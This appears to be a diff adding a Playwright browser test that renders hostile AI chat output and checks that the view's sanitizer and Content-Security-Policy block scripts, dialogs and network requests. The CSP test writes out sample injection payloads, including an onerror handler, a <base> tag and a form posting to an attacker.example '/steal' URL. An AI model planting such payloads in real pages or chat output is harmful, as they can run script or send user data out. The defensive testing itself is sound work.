@@ -1,0 +1,170 @@
+// Hostile model output through the chat view's whole rendering pipeline (markdown-it, DOMPurify,
+// highlight.js, the DOM, the link handler) in a real browser: Debian's Chromium through
+// playwright-core, as the e2e layer drives it, with the chat's stylesheet, as wide as a side bar.
+// The page has no CSP (the chat view's CSP is a further layer), so whatever the rendered answer
+// would run or fetch is seen here: every request the page makes is recorded and refused, and every
+// dialog and script error is recorded.
+import { strict as assert } from 'node:assert';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import type { Browser, Page } from 'playwright-core';
+import { chatCsp } from '../../src/host/chatCsp';
+import type { RenderReport } from '../browser/renderHarness';
+import { flat, hostileCorpus, hostileDir, streamPieces, type HostilePayload } from '../support/hostile';
+
+const CHROMIUM = process.env.ASKLLM_CHROMIUM ?? '/usr/bin/chromium';
+const ORIGIN = 'http://harness.invalid';
+
+/** The harness bundle (esbuild.js --tests), found from dist/test/unit or test/unit. */
+function harnessScript(): string {
+  for (const dir of [path.join(__dirname, '../browser'), path.join(__dirname, '../../dist/test/browser')]) {
+    const file = path.join(dir, 'renderHarness.js');
+    if (fs.existsSync(file)) return fs.readFileSync(file, 'utf8');
+  }
+  throw new Error('dist/test/browser/renderHarness.js is missing: build with `node esbuild.js --tests` (npm run test:unit does)');
+}
+
+function checkShown(p: HostilePayload, r: RenderReport, where: string): void {
+  const text = flat(r.text);
+  for (const s of p.show) assert.ok(text.includes(flat(s)), `${where}: ${JSON.stringify(s)} is not shown`);
+  for (const link of p.links ?? []) assert.ok(r.hrefs.includes(link), `${where}: ${link} is not a link`);
+  if (p.noLinks) assert.deepEqual(r.hrefs, [], `${where}: no link may be made`);
+  if (p.minShown) assert.ok(text.length >= p.minShown, `${where}: ${text.length} characters shown, at least ${p.minShown} expected`);
+}
+
+describe('hostile output in a real browser: the chat view\'s rendering, every payload whole and streamed', function () {
+  this.timeout(60_000);
+  const corpus = hostileCorpus();
+  let browser: Browser | undefined;
+  let page: Page;
+  /** What the page did that it must not: requests, dialogs, script errors, navigations. */
+  const seen: string[] = [];
+
+  before(async function () {
+    this.timeout(60_000);
+    assert.ok(fs.existsSync(CHROMIUM), `no Chromium at ${CHROMIUM} (Debian's chromium package; ASKLLM_CHROMIUM names another)`);
+    const script = harnessScript();
+    const css = fs.readFileSync(path.join(hostileDir(), '../../../media/chat.css'), 'utf8');
+    const { chromium } = await import('playwright-core');
+    browser = await chromium.launch({
+      executablePath: CHROMIUM,
+      args: ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-component-update',
+        '--disable-sync', '--disable-dev-shm-usage'],
+    });
+    const context = await browser.newContext();
+    await context.route('**/*', async (route) => {
+      const url = route.request().url();
+      if (url === `${ORIGIN}/`) {
+        return route.fulfill({ contentType: 'text/html', body: '<!DOCTYPE html><html><head><meta charset="utf-8"><title>harness</title>'
+          + '<link rel="stylesheet" href="/chat.css"><style>:root { --vscode-font-size: 13px; --vscode-font-family: sans-serif; } #scroller { width: 270px; height: 600px; }</style></head><body></body><script src="/harness.js"></script></html>' });
+      }
+      if (url === `${ORIGIN}/chat.css`) return route.fulfill({ contentType: 'text/css', body: css });
+      if (url === `${ORIGIN}/harness.js`) return route.fulfill({ contentType: 'text/javascript', body: script });
+      seen.push(`request ${route.request().method()} ${url.slice(0, 120)}`);
+      return route.abort();
+    });
+    page = await context.newPage();
+    page.on('dialog', (d) => {
+      seen.push(`dialog ${d.type()}: ${d.message()}`);
+      void d.dismiss();
+    });
+    page.on('pageerror', (err) => seen.push(`script error: ${err.message}`));
+    page.on('popup', (p) => seen.push(`popup ${p.url()}`));
+    await loadHarness();
+    page.on('framenavigated', (f) => {
+      if (f.url() !== `${ORIGIN}/`) seen.push(`navigation to ${f.url()}`);
+    });
+  });
+
+  after(async () => {
+    await browser?.close();
+  });
+
+  async function loadHarness() {
+    await page.goto(`${ORIGIN}/`);
+    await page.waitForFunction(() => 'hostile' in window);
+  }
+
+  const render = (text: string, chunks: string[] | null) =>
+    page.evaluate(([t, c]) => (window as unknown as { hostile: { render(t: string, c: string[] | null): RenderReport } }).hostile.render(t, c), [text, chunks] as const);
+
+  for (const p of hostileCorpus()) {
+    it(`${p.name}: nothing runs, nothing is fetched, links go through the handler, the text is shown`, async () => {
+      // A payload that got the page to navigate fails on its own, not every one after it.
+      if (!(await page.evaluate(() => 'hostile' in window).catch(() => false))) await loadHarness();
+      const from = seen.length;
+      const seeds = p.text.length > 4000 ? [1] : [1, 2];
+      const runs: Array<[string, string[] | null]> = [['whole', null], ...seeds.map((seed): [string, string[]] => [`streamed ${seed}`, streamPieces(p.text, seed)])];
+      for (const [mode, chunks] of runs) {
+        const r = await render(p.text, chunks);
+        const where = `${p.name} (${mode})`;
+        assert.deepEqual(r.problems, [], `${where}: the rendered answer holds what it must not`);
+        assert.deepEqual(r.outOfView, [], `${where}: part of the answer is out of view`);
+        assert.ok(r.opened.every((u) => /^https?:\/\//.test(u)), `${where}: a click asked to open ${r.opened.join(' ')}`);
+        assert.equal(r.opened.length, r.hrefs.slice(0, 40).filter((h) => /^https?:/i.test(h)).length, `${where}: every http(s) link click reaches the handler`);
+        if (mode === 'whole') assert.ok(r.ms < 10_000, `${where}: rendering took ${Math.round(r.ms)} ms`);
+        checkShown(p, r, where);
+      }
+      // Let anything the DOM queued (image loads, error events, timers) happen before looking.
+      await page.waitForTimeout(30);
+      assert.deepEqual(seen.slice(from), [], `${p.name}: the page ran or fetched something`);
+    });
+  }
+
+  it('nothing ran or was fetched after the last payload either', async () => {
+    await page.waitForTimeout(300);
+    assert.deepEqual(seen, []);
+    assert.ok(corpus.length >= 40);
+  });
+
+  it('the chat view\'s CSP (a further layer) refuses data: images, <base>, form submissions, inline handlers and remote loads', async () => {
+    const context = await browser!.newContext();
+    const requests: string[] = [];
+    await context.route('**/*', async (route) => {
+      const url = route.request().url();
+      if (url === `${ORIGIN}/csp`) {
+        const csp = chatCsp(ORIGIN, 'harness-nonce').replace(/"/g, '&quot;');
+        return route.fulfill({ contentType: 'text/html', body: `<!DOCTYPE html><html><head><meta http-equiv="Content-Security-Policy" content="${csp}"></head><body></body></html>` });
+      }
+      requests.push(url);
+      return route.abort();
+    });
+    try {
+      const csp = await context.newPage();
+      await csp.goto(`${ORIGIN}/csp`);
+      const found = await csp.evaluate(async () => {
+        const refused: string[] = [];
+        document.addEventListener('securitypolicyviolation', (e) => refused.push(e.effectiveDirective));
+        const w = window as unknown as { ran?: boolean };
+        document.body.innerHTML = '<img id="data" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==">'
+          + '<img src="https://attacker.example/remote.png"><img src="x" onerror="window.ran = true">';
+        const base = document.createElement('base');
+        base.href = 'https://attacker.example/';
+        document.head.append(base);
+        const a = document.createElement('a');
+        a.setAttribute('href', 'relative');
+        await new Promise((r) => setTimeout(r, 500));
+        const img = document.getElementById('data') as HTMLImageElement;
+        return { refused, ran: w.ran === true, dataLoaded: img.complete && img.naturalWidth > 0, link: a.href };
+      });
+      assert.equal(found.dataLoaded, false, 'a data: image is not shown');
+      assert.equal(found.link, `${ORIGIN}/relative`, 'a <base> in the page changes nothing');
+      assert.equal(found.ran, false, 'an inline event handler does not run');
+      for (const d of ['img-src', 'base-uri', 'script-src-attr']) assert.ok(found.refused.includes(d), `refused by ${d} (${found.refused.join(', ')})`);
+      // A form in the page submits nowhere.
+      await csp.evaluate(() => {
+        document.addEventListener('securitypolicyviolation', (e) => document.body.setAttribute('data-refused', e.effectiveDirective));
+        const form = document.createElement('form');
+        form.action = 'https://attacker.example/steal';
+        form.method = 'post';
+        document.body.append(form);
+        form.submit();
+      }).catch(() => undefined);
+      await csp.waitForTimeout(500);
+      assert.equal(await csp.evaluate(() => document.body.getAttribute('data-refused')).catch(() => 'navigated away'), 'form-action');
+      assert.deepEqual(requests.filter((u) => u.includes('attacker.example')), [], 'nothing reached the remote host');
+    } finally {
+      await context.close();
+    }
+  });
+});
